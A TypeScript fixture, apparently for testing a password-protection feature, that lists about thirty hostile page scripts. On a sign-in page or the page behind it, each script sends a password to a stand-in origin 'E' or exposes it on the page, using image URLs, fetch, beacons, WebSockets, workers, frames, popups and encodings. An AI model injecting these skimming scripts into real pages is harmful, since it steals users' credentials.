/** A page of the credential's own site that tries to carry the password away; `E` stands for the other site's origin. */
export interface HostilePage {
  readonly name: string
  /** Runs on the sign-in page, where `pw()` is what stands in the password field. */
  readonly atForm?: string
  /** Runs on the page behind it, where `P` is the password, as the site's server knows it. */
  readonly behind?: string
  /** Markup of the page behind it; `%P` is the password. */
  readonly shows?: string
}

const onInput = (source: string) =>
  `document.querySelector('[type=password]').addEventListener('input', () => { ${source} })`
const onSubmit = (source: string) => `document.querySelector('form').addEventListener('submit', () => { ${source} })`

export const HOSTILE_PAGES: readonly HostilePage[] = [
  { name: 'a picture’s address while it is typed', atForm: onInput("new Image().src = 'E/?p=' + pw()") },
  {
    name: 'a request while it is typed',
    atForm: onInput("fetch('E/', { method: 'POST', mode: 'no-cors', body: pw() })"),
  },
  { name: 'a beacon as the form is sent', atForm: onSubmit("navigator.sendBeacon('E/', pw())") },
  {
    name: 'a request that outlives the page',
    atForm: onSubmit("fetch('E/?' + pw(), { keepalive: true, mode: 'no-cors' })"),
  },
  {
    name: 'a form turned to another site as it is sent',
    atForm: onSubmit("document.querySelector('form').action = 'E/in'"),
  },
  { name: 'a navigation while it is typed', atForm: onInput("location.href = 'E/?p=' + pw()") },
  {
    name: 'a hidden form to another site',
    atForm: onInput(
      "const f = document.createElement('form'); f.method = 'post'; f.action = 'E/'; f.innerHTML = '<input name=p>'; f.firstChild.value = pw(); document.body.append(f); f.submit()",
    ),
  },
  {
    name: 'a WebSocket while it is typed',
    atForm: onInput("const s = new WebSocket('E/'.replace('http', 'ws')); s.onopen = () => s.send(pw())"),
  },
  { name: 'a popup while it is typed', atForm: onInput("window.open('E/?p=' + pw())") },
  {
    name: 'a worker while it is typed',
    atForm: onInput(
      'new Worker(URL.createObjectURL(new Blob([\'fetch("E/?p=\' + encodeURIComponent(pw()) + \'", { mode: "no-cors" })\'])))',
    ),
  },
  {
    name: 'a style sheet while it is typed',
    atForm: onInput(
      "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'E/?p=' + pw(); document.head.append(l)",
    ),
  },
  {
    name: 'a frame while it is typed',
    atForm: onInput("const i = document.createElement('iframe'); i.src = 'E/?p=' + pw(); document.body.append(i)"),
  },
  {
    name: 'a message to a frame',
    shows: '<iframe src="E/frame"></iframe>',
    behind: "setTimeout(() => document.querySelector('iframe').contentWindow.postMessage(P, '*'), 400)",
  },
  { name: 'a picture’s address behind it', behind: "new Image().src = 'E/?p=' + encodeURIComponent(P)" },
  { name: 'base64 in an address', behind: "fetch('E/?' + btoa('me:' + P), { mode: 'no-cors' })" },
  {
    name: 'hex in a body',
    behind:
      "fetch('E/', { method: 'POST', mode: 'no-cors', body: [...P].map(c => c.charCodeAt(0).toString(16)).join('') })",
  },
  { name: 'reversed in a header', behind: "fetch('E/', { headers: { 'x-p': [...P].reverse().join('') } })" },
  { name: 'a body that is a blob', behind: "fetch('E/', { method: 'POST', mode: 'no-cors', body: new Blob([P]) })" },
  { name: 'a beacon that is a blob', behind: "navigator.sendBeacon('E/', new Blob([P]))" },
  {
    name: 'form data',
    behind: "const d = new FormData(); d.append('p', P); fetch('E/', { method: 'POST', mode: 'no-cors', body: d })",
  },
  {
    name: 'pieces of eight',
    behind: "for (let i = 0; i + 8 <= P.length; i += 8) fetch('E/?' + P.slice(i, i + 8), { mode: 'no-cors' })",
  },
  { name: 'a navigation behind it', behind: "location.href = 'E/?p=' + P" },
  { name: 'a WebSocket’s address behind it', behind: "new WebSocket('E/?p='.replace('http', 'ws') + P)" },
  {
    name: 'a worker’s request behind it',
    behind: 'new Worker(URL.createObjectURL(new Blob([\'fetch("E/?p=\' + P + \'", { mode: "no-cors" })\'])))',
  },
  {
    name: 'a frame of one’s own that asks',
    behind:
      "const i = document.createElement('iframe'); i.srcdoc = '<img src=\"E/?p=' + P + '\">'; document.body.append(i)",
  },
  { name: 'a popup behind it', behind: "window.open('E/?p=' + P)" },
  {
    name: 'the referrer',
    behind:
      "history.replaceState(null, '', '/home?p=' + P); fetch('E/', { mode: 'no-cors', referrerPolicy: 'unsafe-url' })",
  },
  { name: 'a page that shows it', shows: '<p>Your password is %P</p><input value="%P"><a href="/x?p=%P">link %P</a>' },
  { name: 'a title', behind: 'document.title = P' },
  { name: 'an address', behind: "history.replaceState(null, '', '/home?p=' + P)" },
  { name: 'a path', behind: "history.replaceState(null, '', '/home/' + P)" },
  { name: 'an alert', behind: 'document.body.onclick = () => alert(P)' },
  { name: 'base64 on the page', behind: 'document.body.append(btoa(P))' },
  {
    name: 'split over elements',
    behind:
      "for (const c of P) { const b = document.createElement('b'); b.textContent = c; document.querySelector('h1').append(b) }",
  },
]
